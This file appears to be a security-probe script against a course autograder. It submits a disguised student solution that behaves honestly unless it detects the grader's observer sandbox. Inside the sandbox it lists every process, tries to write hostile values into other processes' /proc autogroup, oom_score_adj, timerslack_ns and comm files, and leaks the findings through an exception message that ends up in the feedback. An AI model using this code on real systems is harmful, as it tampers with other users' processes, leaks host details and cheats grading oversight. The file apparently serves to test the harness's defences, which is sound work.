"""a04: from a check's child in the observer's sandbox (student code run by the observer), list every visible
process with its session, autogroup, owner and dumpable state, and try to write nice 19 into every writable
/proc/<pid>/autogroup, oom_score_adj, and /proc/<pid>/timerslack_ns, comm; the census is smuggled out as the message of an
exception (sacrificing training_memory's 4 points). Also times the rest of the notebook against the controls."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
code = sol(A, "training_memory").replace("def training_memory(model, optimizer):", "def _honest_tm(model, optimizer):") + r'''

def training_memory(model, optimizer):
    import sys, os
    obs = sys.modules.get("probes.observer")
    if obs is not None and getattr(obs, "ACTIVE", False):
        rows = []
        me = os.getpid()
        for p in sorted((int(x) for x in os.listdir("/proc") if x.isdigit())):
            try:
                st = open(f"/proc/{p}/stat").read()
                rest = st[st.rindex(")") + 2:].split()
                sid = rest[3]
                uid = os.stat(f"/proc/{p}").st_uid
                cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ")[:40].decode(errors="replace")
                try:
                    ag = open(f"/proc/{p}/autogroup").read().split()[0].split("-")[-1]
                except Exception as e:
                    ag = type(e).__name__
                w = []
                for f, v in (("autogroup", "19"), ("oom_score_adj", "1000"), ("timerslack_ns", "1000000000"), ("comm", "x")):
                    if p == me: continue
                    try:
                        with open(f"/proc/{p}/{f}", "w") as fh: fh.write(v)
                        w.append(f)
                    except Exception as e:
                        w.append(f[:3] + ":" + type(e).__name__[:5])
                rows.append(f"{p}|s{sid}|ag{ag}|u{uid}|{cmd[:28]}|{','.join(w)}")
            except Exception as e:
                rows.append(f"{p}|{type(e).__name__}")
        raise ValueError("CENSUS me=%d sid=%d " % (me, os.getsid(0)) + " ;; ".join(rows))
    return _honest_tm(model, optimizer)
'''
d = make_course("a04", A, {"mallory": {"training_memory": code}})
grade(d, A)
scores(d, A)
fb = open(f"{d}/feedback/mallory/{A}/{A}.html").read()
i = fb.find("CENSUS")
import html as H
print(H.unescape(fb[i:i+3000]))
